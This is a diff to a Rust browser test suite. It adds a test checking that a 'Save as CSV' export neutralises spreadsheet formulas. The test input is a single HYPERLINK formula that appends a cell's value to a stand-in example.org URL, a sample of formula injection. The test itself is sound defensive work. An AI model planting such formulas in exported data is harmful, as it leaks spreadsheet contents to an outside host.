@@ -3,6 +3,7 @@
 use diptych_browser_tests::reader::with_reader_at;
 use diptych_browser_tests::{Host, corpora, with_reader};
 use diptych_corpus::vocabulary::EvidenceRelation;
+use diptych_engine::annotation::seal_pack;
 
 /// Keeps the text of what the page saves.
 const KEEP_SAVED: &str = "const address = URL.createObjectURL; \
@@ -259,6 +260,24 @@ async fn long_tables_are_drawn_whole_wherever_they_stand() {
         for table in ["#open tr", "#folded tr", "#later tr"] {
             reader.until_count(table, 900).await;
         }
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn m5_a_saved_table_holds_nothing_that_a_spreadsheet_would_run() {
+    let mut corpus = corpora::town();
+    corpus.claims[0].text = "=HYPERLINK(\"https://example.org/?x=\"&A1,\"open\")".to_owned();
+    let host = Host::start();
+    host.add("formulas.pack", seal_pack(corpus).expect("a corpus of the same size"));
+    with_reader_at(host, async |reader| {
+        reader.open("#/claims?corpus=formulas.pack").await;
+        reader.until("the matrix is drawn", DRAWN).await;
+        reader.script(KEEP_SAVED, Vec::new()).await;
+        reader.click_button("Save as CSV").await;
+        reader.until("the table is saved", "return globalThis.saved !== undefined").await;
+        let guarded = "return globalThis.saved.includes(`\"'=HYPERLINK(\"\"https://example.org/`)";
+        assert_eq!(reader.script(guarded, Vec::new()).await, serde_json::json!(true));
     })
     .await;
 }
